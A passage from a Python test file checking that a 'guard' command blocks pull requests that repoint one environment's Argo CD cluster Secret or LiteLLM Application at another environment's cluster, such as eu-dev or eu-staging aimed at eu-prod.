        f"API server {server.lower()}", f"EKS cluster eu-west-1/{server[8:40].upper()}"}, hits


def test_a_hub_environment_moved_onto_another_environment_s_cluster_is_blocked(scratch_repo: Path, tmp_path: Path) -> None:
    """The same through a hand edit of an existing registration (render --check is not the guard's
    business): eu-dev's cluster Secret now names eu-prod's server."""
    import yaml
    every = ("eu-dev", "eu-prod")
    base = _hub_checkout(scratch_repo, tmp_path / "base", every)
    head = _hub_checkout(scratch_repo, tmp_path / "head", every)
    prod = yaml.safe_load((head / "rendered/fleet/central/hub/eu-prod/cluster.yaml").read_text())["stringData"]["server"]
    path = head / "rendered/fleet/central/hub/eu-dev/cluster.yaml"
    doc = yaml.safe_load(path.read_text())
    doc["stringData"]["server"] = prod
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    code, out, err = run_cli("guard", "--base", base, "--head", head, "--json", "--no-hydrate")
    import json
    report = json.loads(out)
    assert code == 1 and any(f["policy"] == "blocked" and "API server" in f["field"] and "eu-prod" in f["field"]
                             and f["object"] == "Secret argocd/cluster-eu-dev" for f in report["findings"]), report


def test_a_new_hub_environment_s_child_application_aimed_at_another_cluster_is_blocked(scratch_repo: Path, tmp_path: Path) -> None:
    """A PR adds hub environment eu-staging as render writes it, then points its LiteLLM
    Application at the cluster the hub registers as eu-prod (`destination.name`): a new
    environment's Applications are new, so only this check says where they land."""
    import yaml
    base = _hub_checkout(scratch_repo, tmp_path / "base", ("eu-dev", "eu-prod"))
    head = _hub_checkout(scratch_repo, tmp_path / "head", ("eu-dev", "eu-prod", "eu-staging"))
    path = head / "rendered/eu-staging/apps/13-litellm.yaml"
    doc = yaml.safe_load(path.read_text())
    assert doc["spec"]["destination"]["name"] == "eu-staging"
    doc["spec"]["destination"]["name"] = "eu-prod"
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    code, out, err = run_cli("guard", "--base", base, "--head", head, "--json", "--no-hydrate")
    import json
    report = json.loads(out)
    hits = [f for f in report["findings"] if f["field"].startswith("spec.destination.name (cluster name eu-prod is the cluster "
                                                                    "of environment eu-prod: environment eu-staging's")]
    assert code == 1 and hits and all(f["policy"] == "blocked" and f["environment"] == "eu-staging" for f in hits), report
